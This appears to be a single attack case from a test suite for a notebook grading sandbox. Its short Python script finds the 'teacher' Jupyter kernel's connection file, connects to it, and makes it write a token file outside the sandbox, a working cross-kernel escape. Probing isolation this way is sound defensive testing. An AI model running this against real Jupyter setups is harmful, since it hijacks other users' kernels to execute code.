# /// attack
# tries = "Finds the teacher's own kernel by its connection file and has it write a file."
# points = 0
# shows = ["changed"]
# ///
# %% before count
from pathlib import Path
from jupyter_client import BlockingKernelClient

for folder in (Path(bait["home"]), Path.home()):
    for file in folder.glob(".local/share/jupyter/runtime/kernel-teacher.json"):
        client = BlockingKernelClient(connection_file=str(file))
        client.load_connection_file()
        client.start_channels()
        client.wait_for_ready(timeout=10)
        client.execute(f"open({bait['outside'] + '/' + bait['token']!r}, 'w').close()")
        client.get_shell_msg(timeout=10)
